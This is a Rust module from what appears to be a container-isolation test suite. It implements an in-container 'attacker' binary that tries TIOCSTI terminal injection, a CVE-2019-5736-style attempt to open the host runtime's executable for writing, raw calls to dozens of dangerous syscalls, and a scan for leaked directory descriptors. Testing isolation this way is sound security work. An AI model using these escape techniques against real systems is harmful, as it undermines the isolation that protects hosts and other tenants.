//! What an attacker does inside of a container that no program of busybox does: the suite's own binary, bound into
//! the container and called by another name. Runs with whatever the container gives it.
#![allow(unsafe_code)]

use std::collections::BTreeMap;
use std::ffi::CString;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::PathBuf;
use std::process::exit;

use super::bundle::Bundle;

/// Where it is in the container.
pub const PATH: &str = "/attacker";

/// Binds this binary into the container.
pub fn bring(bundle: Bundle) -> Bundle {
    bundle.bind(&std::env::current_exe().unwrap(), PATH, &["ro"])
}

/// Does the deed that the command line names, if this is the attacker, and ends.
pub fn act_if_called() {
    let mut args = std::env::args();
    if args.next().as_deref() != Some(PATH) {
        return;
    }
    let deed = args.next().unwrap_or_default();
    let rest: Vec<String> = args.collect();
    let word = rest.first().map(String::as_str).unwrap_or_default();
    match deed.as_str() {
        "type-into-terminal" => type_into_terminal(),
        "overwrite-runtime" => overwrite_runtime(),
        "call" => call(word, &rest),
        "list-folders" => list_folders(),
        _ => super::deeds::act(&deed, word),
    }
    exit(0);
}

/// TIOCSTI puts a character into the input of the caller's terminal (CVE-2016-10124): says what the kernel thought.
fn type_into_terminal() {
    let letter = b'#';
    // SAFETY: TIOCSTI reads one byte through the pointer, which is valid during the call.
    let result = unsafe { libc::ioctl(0, libc::TIOCSTI, &raw const letter) };
    println!("{}", if result == 0 { "typed".to_owned() } else { nix::errno::Errno::last().to_string() });
}

/// Holds `/proc/PID/exe` of every process that comes by, and tries to open it for writing once that process is gone
/// (CVE-2019-5736). Writes `/tmp/won` and the name if that works; ends when there is a file `/tmp/enough`.
fn overwrite_runtime() {
    let own = std::fs::metadata("/proc/self/exe").unwrap();
    let mut held: BTreeMap<u64, (std::fs::File, PathBuf)> = BTreeMap::new();
    std::fs::write("/tmp/ready", "").unwrap();
    while !std::fs::exists("/tmp/enough").unwrap_or(true) {
        for pid in 1..200 {
            hold(&format!("/proc/{pid}/exe"), &own, &mut held);
        }
        for (file, name) in held.values() {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if std::fs::OpenOptions::new().write(true).open(path).is_ok() {
                std::fs::write("/tmp/won", format!("{}", name.display())).unwrap();
            }
        }
    }
    std::fs::write("/tmp/seen", held.len().to_string()).unwrap();
}

fn hold(exe: &str, own: &std::fs::Metadata, held: &mut BTreeMap<u64, (std::fs::File, PathBuf)>) {
    use std::os::unix::fs::MetadataExt;
    let opened = std::fs::OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(exe);
    let Ok(file) = opened else { return };
    let (Ok(data), Ok(name)) = (file.metadata(), std::fs::read_link(exe)) else { return };
    // busybox and the attacker are the container's own.
    let is_foreign = data.ino() != own.ino() && !name.ends_with("busybox");
    if is_foreign {
        held.insert(data.ino(), (file, name));
    }
}

/// One system call with its arguments as numbers, or as text if they are none; says the result or the errno's name.
fn call(name: &str, words: &[String]) {
    let number = match name {
        "keyctl" => libc::SYS_keyctl,
        "bpf" => libc::SYS_bpf,
        "io_uring_setup" => libc::SYS_io_uring_setup,
        "userfaultfd" => libc::SYS_userfaultfd,
        "perf_event_open" => libc::SYS_perf_event_open,
        "unshare" => libc::SYS_unshare,
        "setns" => libc::SYS_setns,
        "ptrace" => libc::SYS_ptrace,
        "kexec_load" => libc::SYS_kexec_load,
        "init_module" => libc::SYS_init_module,
        "open_by_handle_at" => libc::SYS_open_by_handle_at,
        "mount" => libc::SYS_mount,
        "fsopen" => libc::SYS_fsopen,
        "clone3" => libc::SYS_clone3,
        "add_key" => libc::SYS_add_key,
        "reboot" => libc::SYS_reboot,
        "swapon" => libc::SYS_swapon,
        "settimeofday" => libc::SYS_settimeofday,
        "name_to_handle_at" => libc::SYS_name_to_handle_at,
        "quotactl" => libc::SYS_quotactl,
        "iopl" => libc::SYS_iopl,
        "chroot" => libc::SYS_chroot,
        "pivot_root" => libc::SYS_pivot_root,
        "personality" => libc::SYS_personality,
        "process_vm_readv" => libc::SYS_process_vm_readv,
        "kcmp" => libc::SYS_kcmp,
        "syslog" => libc::SYS_syslog,
        "acct" => libc::SYS_acct,
        "vmsplice" => libc::SYS_vmsplice,
        "fanotify_init" => libc::SYS_fanotify_init,
        "socket" => libc::SYS_socket,
        "ioctl" => libc::SYS_ioctl,
        "process_vm_writev" => libc::SYS_process_vm_writev,
        "request_key" => libc::SYS_request_key,
        "io_uring_enter" => libc::SYS_io_uring_enter,
        "move_pages" => libc::SYS_move_pages,
        "open_tree" => libc::SYS_open_tree,
        "pidfd_getfd" => libc::SYS_pidfd_getfd,
        _ => exit(64),
    };
    let texts: Vec<CString> = words.iter().map(|word| CString::new(word.as_str()).unwrap()).collect();
    let mut args = [0i64; 6];
    for (place, word) in words.iter().skip(1).enumerate().take(6) {
        args[place] = word.parse().unwrap_or(texts[place + 1].as_ptr() as i64);
    }
    // SAFETY: numbers, and pointers to strings that outlive the call; what the call does to this process is its end.
    let result = unsafe { libc::syscall(number, args[0], args[1], args[2], args[3], args[4], args[5]) };
    match result {
        -1 => println!("{:?}", nix::errno::Errno::last()),
        value => println!("{value}"),
    }
}

/// Lists the descriptors that are folders (CVE-2016-8649).
fn list_folders() {
    for entry in std::fs::read_dir("/proc/self/fd").unwrap().flatten() {
        if std::fs::metadata(entry.path()).is_ok_and(|data| data.is_dir()) {
            println!("{}", entry.path().display());
        }
    }
}
